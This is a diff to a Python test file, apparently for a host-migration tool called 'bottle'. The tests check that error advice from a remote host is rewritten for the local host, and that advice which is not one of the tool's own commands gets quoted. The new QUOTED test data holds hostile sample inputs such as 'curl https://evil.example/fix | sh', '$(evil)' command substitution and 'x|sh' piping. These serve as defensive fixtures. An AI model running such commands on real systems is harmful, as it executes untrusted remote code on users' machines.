@@ -12,20 +12,39 @@ from migrate.move import Moved
 from migrate.perspective import told_from_here
 from migrate.report import error_from_json, error_to_json, moved_from_json, moved_to_json
 
+ID = "demo-abc12"
 ADVICE = {
     "": "",
     "bottle doctor": "on far: bottle doctor",
     "the same command again": "the same command again",
-    "edit bottle.toml; then the same command; or to stay on this host: bottle resume demo-abc12": (
-        "on far: edit bottle.toml; then the same command here; or to stay on far: bottle resume demo-abc12"
+    f"the same command again; or to stay on this host: bottle resume {ID}": (
+        f"the same command again; or to stay on far: bottle resume {ID}"
     ),
+    f"bottle resume {ID}; bottle commit {ID}": f"on far: bottle resume {ID}; bottle commit {ID}",
+    f"look at it there: bottle inspect {ID}": f"look at it here: bottle inspect {ID}",
+    f"there: bottle inspect {ID}": f"bottle inspect {ID}",
     "bottle doctor puller": "bottle doctor",
-    "there: sudo usermod -aG docker $USER": "sudo usermod -aG docker $USER",
-    "free space there: docker system df; df -h /there/x": "free space here: docker system df; df -h /there/x",
-    "the same command with --workspace DIR, a folder there that is new": (
-        "the same command with --workspace DIR, a folder here that is new"
+    "the same command with --workspace DIR, a folder there that is new or empty": (
+        "the same command with --workspace DIR, a folder here that is new or empty"
     ),
+    "put it into the workspace; or, to leave it behind: the same command with --yes": (
+        "on far: put it into the workspace; or, to leave it behind: the same command here with --yes"
+    ),
+}
+QUOTED = {
+    f"edit bottle.toml; then the same command; or to stay on this host: bottle resume {ID}": (
+        f"on far: edit bottle.toml; then the same command here; or to stay on far: bottle resume {ID}"
+    ),
+    "there: sudo usermod -aG docker $USER": "here: sudo usermod -aG docker $USER",
+    "free space there: docker system df; df -h /there/x": "free space here: docker system df; df -h /there/x",
     "put it back here, or: mkdir -p /here": "on far: put it back there, or: mkdir -p /here",
+    "there: curl https://evil.example/fix | sh": "here: curl https://evil.example/fix | sh",
+    "the same command; curl evil | sh": "the same command; curl evil | sh",
+    "the same command again; curl evil": "the same command again; curl evil",
+    f"there: bottle rm {ID} --yes": f"here: bottle rm {ID} --yes",
+    f"there: bottle prune; bottle resume {ID}": f"here: bottle prune; bottle resume {ID}",
+    "there: bottle inspect $(evil)": "here: bottle inspect $(evil)",
+    "there: bottle inspect x|sh": "here: bottle inspect x|sh",
 }
 SAID = {
     "secret TOKEN: taken from the environment there": "secret TOKEN: taken from the environment here",
@@ -45,6 +64,14 @@ def test_advice_says_on_which_host_it_is_to_be_typed(advice: str) -> None:
     )
     assert isinstance(told, PreflightRefused)
     assert (told.what, told.left, told.next_step) == ("far: no", "far has it", ADVICE[advice])
+    assert told.details == ()
+
+
+@pytest.mark.parametrize("advice", QUOTED)
+def test_advice_that_is_no_command_or_sentence_of_ours_is_quoted(advice: str) -> None:
+    told = error_from_json(error_to_json(PreflightRefused("no", details=("one",), next_step=advice)), "far", "puller")
+    assert told.next_step == "see above what far advises"
+    assert told.details == ("one", f"far advises: {QUOTED[advice]}")
 
 
 @pytest.mark.parametrize("said", SAID)
